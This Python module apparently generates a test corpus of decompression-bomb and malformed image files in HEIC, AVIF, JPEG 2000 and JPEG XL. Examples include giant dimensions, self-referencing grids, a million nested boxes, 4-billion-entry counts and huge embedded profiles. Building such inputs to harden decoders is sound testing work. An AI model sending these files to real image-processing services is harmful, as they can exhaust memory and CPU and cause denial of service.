"""Bombs in HEIC, AVIF, JPEG XL and JPEG 2000: boxes, grids, references, tiles."""

import struct

from packing import box


def full(kind: bytes, content: bytes, version: int = 0, flags: int = 0) -> bytes:
    return box(kind, struct.pack(">I", version << 24 | flags) + content)


def heif(brand: bytes, items: list[tuple[int, bytes, bytes]], references: bytes = b"",
         properties: list[bytes] | None = None, extents: int = 1, more: bytes = b"") -> bytes:
    """Items of the given number, type and data; all have all properties."""
    properties = properties if properties is not None else [size(64, 64)]
    entries = b"".join(
        full(b"infe", struct.pack(">HH4sB", number, 0, kind, 0), 2) for number, kind, _ in items)
    numbers = bytes(range(1, len(properties) + 1))
    associations = struct.pack(">I", len(items)) + b"".join(
        struct.pack(">HB", number, len(numbers)) + numbers for number, _, _ in items)
    places, at = b"", 0
    for number, _, data in items:
        places += struct.pack(">HHHH", number, 1, 0, extents)
        places += struct.pack(">II", at, len(data)) * extents
        at += len(data)
    meta = full(b"meta", full(b"hdlr", b"\0\0\0\0pict" + bytes(13))
                + full(b"pitm", struct.pack(">H", items[0][0]))
                + full(b"iinf", struct.pack(">H", len(items)) + entries)
                + box(b"iprp", box(b"ipco", b"".join(properties)) + full(b"ipma", associations))
                + full(b"iloc", b"\x44\0" + struct.pack(">H", len(items)) + places, 1)
                + (full(b"iref", references) if references else b"") + more
                + box(b"idat", b"".join(data for _, _, data in items)))
    return box(b"ftyp", brand + bytes(4) + brand + b"mif1") + meta


def size(width: int, height: int) -> bytes:
    return full(b"ispe", struct.pack(">II", width, height))


def grid(rows: int, columns: int, width: int, height: int) -> bytes:
    return bytes([0, 1, rows - 1, columns - 1]) + struct.pack(">II", width, height)


def reference(kind: bytes, item: int, targets: list[int]) -> bytes:
    return box(kind, struct.pack(f">HH{len(targets)}H", item, len(targets), *targets))


def deep(kind: bytes, depth: int) -> bytes:
    """Boxes within boxes, each as long as what is left."""
    length = 8 * depth
    return b"".join(struct.pack(">I", length - 8 * level) + kind for level in range(depth))


def isobmff():
    for name, brand, coded, end in (("AVIF", b"avif", b"av01", "avif"), ("HEIC", b"heic", b"hvc1", "heic")):
        make = lambda *items, brand=brand, **more: heif(brand, list(items), **more)
        yield f"{name}, 60,000 x 60,000", end, lambda make=make, coded=coded: make(
            (1, coded, bytes(9)), properties=[size(60_000, 60_000)])
        yield f"{name}, a grid of 65,536 tiles of 4 billion pixels each", end, lambda make=make, coded=coded: make(
            (1, b"grid", grid(256, 256, 65_535, 65_535)), (2, coded, bytes(9)),
            references=reference(b"dimg", 1, [2] * 65_535), properties=[size(65_535, 65_535)])
        yield f"{name}, a grid of 65,536 times the same tile", end, lambda make=make, coded=coded: make(
            (1, b"grid", grid(255, 255, 255 * 64, 255 * 64)), (2, coded, bytes(9)),
            references=reference(b"dimg", 1, [2] * 65_025), properties=[size(255 * 64, 255 * 64)])
        yield f"{name}, a grid whose tile is the grid", end, lambda make=make: make(
            (1, b"grid", grid(1, 1, 64, 64)), references=reference(b"dimg", 1, [1]))
        yield f"{name}, grids of grids, 16 to the 16th", end, lambda make=make, coded=coded: make(
            *[(n, b"grid", grid(4, 4, 64, 64)) for n in range(1, 17)], (17, coded, bytes(9)),
            references=b"".join(reference(b"dimg", n, [n + 1] * 16) for n in range(1, 17)))
        yield f"{name}, derived from itself", end, lambda make=make: make(
            (1, b"iden", b""), references=reference(b"dimg", 1, [1]))
        yield f"{name}, its alpha's alpha is itself", end, lambda make=make, coded=coded: make(
            (1, coded, bytes(9)), references=reference(b"auxl", 1, [1]),
            properties=[size(64, 64), full(b"auxC", b"urn:mpeg:mpegB:cicp:systems:auxiliary:alpha\0")])
        yield f"{name}, an item of 65,535 parts, each the same 100 kB", end, lambda make=make, coded=coded: make(
            (1, coded, bytes(100_000)), extents=65_535)
        yield f"{name}, 1,000,000 boxes within boxes", end, lambda make=make, coded=coded: make(
            (1, coded, bytes(9)), more=deep(b"meta", 1_000_000))
        yield f"{name}, 65,535 items", end, lambda make=make, coded=coded: make(
            *[(n, coded, bytes(9)) for n in range(1, 65_536)])
        yield f"{name}, 200 profiles of 500 kB", end, lambda make=make, coded=coded: make(
            (1, coded, bytes(9)), properties=[box(b"colr", b"prof" + bytes(500_000))] * 200)
        yield f"{name}, 4 billion entries and properties", end, lambda brand=brand: (
            box(b"ftyp", brand + bytes(4) + brand) + full(b"meta", full(b"pitm", b"\0\1")
            + full(b"iinf", b"\xff\xff\xff\xff", 1) + full(b"iloc", b"\x44\0\xff\xff\xff\xff", 2)
            + box(b"iprp", full(b"ipma", b"\xff\xff\xff\xff"))))
    samples = full(b"stsz", struct.pack(">II", 1, 0xFFFFFFFF)) + full(b"stco", b"\xff\xff\xff\xff")
    yield "HEIC, a sequence of 4 billion frames", "heic", lambda: (
        box(b"ftyp", b"hevc\0\0\0\0hevc") + box(b"moov", box(b"trak", box(b"mdia", box(b"minf", box(b"stbl", samples))))))


def j2k(width: int, height: int, tile: int, components: int = 3, style: bytes = bytes([0, 0, 0, 1, 0, 0, 4, 4, 0, 1]),
        tiles: int = 1) -> bytes:
    head = struct.pack(">HIIIIIIIIH", 0, width, height, 0, 0, tile, tile, 0, 0, components) + b"\7\1\1" * components
    part = b"\xff\x90\0\x0a" + struct.pack(">HIBB", 0, 14, 0, 1) + b"\xff\x93"
    return (b"\xff\x4f\xff\x51" + struct.pack(">H", len(head) + 2) + head
            + b"\xff\x52" + struct.pack(">H", len(style) + 2) + style
            + b"\xff\x5c\0\4\x40\x40" + part * tiles + b"\xff\xd9")


def jp2(head: bytes, stream: bytes) -> bytes:
    basis = box(b"ihdr", struct.pack(">IIHBBBB", 64, 64, 3, 7, 7, 0, 0)) + box(b"colr", b"\1\0\0\0\0\0\x10")
    return (box(b"jP  ", b"\r\n\x87\n") + box(b"ftyp", b"jp2 \0\0\0\0jp2 ") + box(b"jp2h", basis + head)
            + box(b"jp2c", stream))


def jpeg_2000():
    side = 16_000
    yield "JPEG 2000, 60,000 x 60,000", "j2k", lambda: j2k(60_000, 60_000, 60_000)
    yield "JPEG 2000, 256 MP without pixels", "j2k", lambda: j2k(side, side, side)
    yield "JPEG 2000, a tile for each pixel", "j2k", lambda: j2k(side, side, 1)
    yield "JPEG 2000, 4,096 x 4,096 in tiles of 64", "j2k", lambda: j2k(4_096, 4_096, 64, tiles=65_000)
    yield "JPEG 2000, 16,384 components", "j2k", lambda: j2k(512, 512, 512, 16_384)
    yield "JPEG 2000, 65,535 layers", "j2k", lambda: j2k(
        4_000, 4_000, 4_000, 3, bytes([0, 0, 0xFF, 0xFF, 0, 5, 4, 4, 0, 1]))
    yield "JPEG 2000, a precinct for each pixel", "j2k", lambda: j2k(
        4_000, 4_000, 4_000, 1, bytes([1, 0, 0, 1, 0, 0, 4, 4, 0, 1, 0]))
    yield "JPEG 2000, blocks of 4 by 4", "j2k", lambda: j2k(
        side, side, side, 1, bytes([0, 0, 0, 1, 0, 0, 0, 0, 0, 1]))
    yield "JPEG 2000, 1,000,000 boxes within boxes", "jp2", lambda: jp2(deep(b"asoc", 1_000_000), j2k(64, 64, 64))
    yield "JPEG 2000, profile of 100 MB", "jp2", lambda: jp2(
        box(b"colr", b"\2\0\0" + bytes(100_000_000)), j2k(64, 64, 64))
    yield "JPEG 2000, 20,000,000 segments", "j2k", lambda: (
        j2k(64, 64, 64)[:-2].replace(b"\xff\x90", b"\xff\x64\0\2" * 5_000_000 + b"\xff\x90"))


def jxl(side: int, tail: bytes = b"\1" + bytes(40)) -> bytes:
    bits = (side - 1) << 3 | 0b11 << 1 | (side - 1) << 36 | 0b11 << 34
    return b"\xff\x0a" + (bits | 1 << 66).to_bytes(16, "little") + tail


def jpeg_xl():
    kind = box(b"JXL ", b"\r\n\x87\n") + box(b"ftyp", b"jxl \0\0\0\0jxl ")
    yield "JPEG XL, 2^29 x 2^29", "jxl", lambda: jxl(1 << 29)
    yield "JPEG XL, 256 MP without pixels", "jxl", lambda: jxl(16_000)
    yield "JPEG XL, 10,000,000 parts without data", "jxl", lambda: (
        kind + box(b"jxlp", b"\0\0\0\0") * 10_000_000 + box(b"jxlc", jxl(64)))
    yield "JPEG XL, 100 MB of metadata", "jxl", lambda: (
        kind + box(b"Exif", bytes(100_000_000)) + box(b"jxlc", jxl(64)))
    for seed in range(6):
        tail = bytes((seed * 37 + at * at * 11 + at * 101) % 256 for at in range(3_000))
        yield f"JPEG XL, header fields at random, {seed}", "jxl", lambda tail=tail: jxl(8_000, tail)


def bombs():
    for family in (isobmff, jpeg_2000, jpeg_xl):
        yield from family()
